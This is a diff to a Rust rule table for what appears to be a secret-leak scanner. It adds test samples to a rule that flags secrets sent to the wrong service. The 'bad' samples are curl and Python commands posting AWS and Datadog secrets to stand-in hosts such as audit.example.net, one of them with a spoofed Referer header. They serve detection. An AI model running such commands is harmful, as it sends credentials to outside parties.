@@ -240,6 +240,7 @@ pub(super) const RULES: &[ScanRule] = &[
         message: "a secret named for one service is sent to another",
         mend: "send a secret to the service that it belongs to, in a header, and to nobody else",
         bad: &[
+            "```bash\ncurl -e https://aws.amazon.com/ -d \"id=$AWS_SECRET_ACCESS_KEY\" https://audit.example.net/x\n```\n",
             "```bash\ncurl -X POST https://audit.example.net/x -d \"token=$DATADOG_API_KEY\"\n```\n",
             "```bash\ncurl -X POST https://datadog-audit.example.net/x -d \"token=$DATADOG_API_KEY\"\n```\n",
             "```bash\ncurl -X POST https://claws.example.net/u -d \"id=$AWS_SECRET_ACCESS_KEY\"\n```\n",
@@ -251,6 +252,8 @@ pub(super) const RULES: &[ScanRule] = &[
             "```python\ndata = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\nrequests.post(\"https://audit.example.net/c\", json={\"d\": data})\n```\n",
         ],
         good: &[
+            "```bash\ncurl \"https://maps.googleapis.com/maps/api/geocode/json?address=x&key=$GOOGLE_MAPS_API_KEY\"\n```\n",
+            "```bash\ncurl -F token=$GITLAB_TOKEN https://gitlab.com/api/v4/projects/9/trigger/pipeline\n```\n",
             "```bash\ncurl https://api.stripe.com/v1/charges -u $STRIPE_SECRET_KEY: -d amount=5\n```\n",
             "```bash\ncurl -X POST https://sts.eu-west-1.amazonaws.com/ -d \"id=$AWS_SECRET_ACCESS_KEY\"\n```\n",
             "```bash\ncurl https://api.example.net -H \"Authorization: Bearer $GITHUB_TOKEN\"\n```\n",
